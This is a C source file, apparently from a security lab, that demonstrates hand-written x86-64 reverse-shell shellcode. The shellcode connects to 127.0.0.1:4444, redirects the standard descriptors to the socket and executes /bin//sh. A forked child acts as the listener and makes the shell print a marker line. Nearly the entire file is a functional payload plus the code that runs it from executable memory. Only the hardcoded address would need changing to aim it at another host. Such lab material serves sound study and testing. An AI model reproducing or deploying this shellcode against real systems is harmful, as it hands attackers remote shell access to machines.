/*
 * Attack: shellcode that connects to 127.0.0.1:4444, puts the connection in place of the standard descriptors and
 * starts a shell. A child is the other end: it has the shell print a line, and shows it.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/prctl.h>
#include <sys/socket.h>

#include "../lab.h"

#define PORT 4444

extern const unsigned char shellcode[], shellcode_end[];

__asm__(".section .rodata\n"
        "shellcode:\n"
        "  push $41\n" /* SYS_socket(AF_INET, SOCK_STREAM, 0) */
        "  pop %rax\n"
        "  push $2\n"
        "  pop %rdi\n"
        "  push $1\n"
        "  pop %rsi\n"
        "  cdq\n"
        "  syscall\n"
        "  xchg %eax, %edi\n"
        "  movabs $0x0100007f5c110002, %rcx\n" /* AF_INET, port 4444, 127.0.0.1 */
        "  push %rcx\n"
        "  mov %rsp, %rsi\n"
        "  push $16\n"
        "  pop %rdx\n"
        "  push $42\n" /* SYS_connect */
        "  pop %rax\n"
        "  syscall\n"
        "  push $3\n"
        "  pop %rsi\n"
        "next_descriptor:\n"
        "  dec %esi\n"
        "  push $33\n" /* SYS_dup2 */
        "  pop %rax\n"
        "  syscall\n"
        "  jnz next_descriptor\n" /* SYSCALL keeps the flags of DEC */
        "  cdq\n"
        "  push %rdx\n"
        "  movabs $0x68732f2f6e69622f, %rax\n" /* "/bin//sh" */
        "  push %rax\n"
        "  mov %rsp, %rdi\n"
        "  push %rdx\n"
        "  push %rdi\n"
        "  mov %rsp, %rsi\n"
        "  push $59\n" /* SYS_execve */
        "  pop %rax\n"
        "  syscall\n"
        "shellcode_end:\n"
        ".text\n");

static int listen_on_loopback(void)
{
    struct sockaddr_in address = { .sin_family = AF_INET,
                                   .sin_port = htons(PORT),
                                   .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
    int listener = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    check(listener >= 0, "socket");
    setsockopt(listener, SOL_SOCKET, SO_REUSEADDR, &(int){ 1 }, sizeof(int));
    check(bind(listener, (struct sockaddr *)&address, sizeof address) == 0, "bind");
    check(listen(listener, 1) == 0, "listen");
    return listener;
}

/* Ends with the victim, however that ends. */
static void attack_from_outside(int listener, pid_t victim)
{
    static const char command[] = "echo PWNED reverse_shell\n";
    char line[64];
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    if (getppid() != victim)
        _exit(0);
    int connection = accept(listener, NULL, NULL);
    check(connection >= 0, "accept");
    check(write(connection, command, sizeof command - 1) == sizeof command - 1, "write");
    ssize_t length = read(connection, line, sizeof line);
    check(length > 0 && write(1, line, (size_t)length) == length, "read");
    _exit(0);
}

int main(void)
{
    watch_signals();
    int listener = listen_on_loopback();
    pid_t victim = getpid();
    if (fork() == 0)
        attack_from_outside(listener, victim);
    unsigned char *memory = map_anonymous(PAGE, PROT_READ | PROT_WRITE | PROT_EXEC);
    memcpy(memory, shellcode, (size_t)(shellcode_end - shellcode));
    jump_to(memory);
    return 0;
}
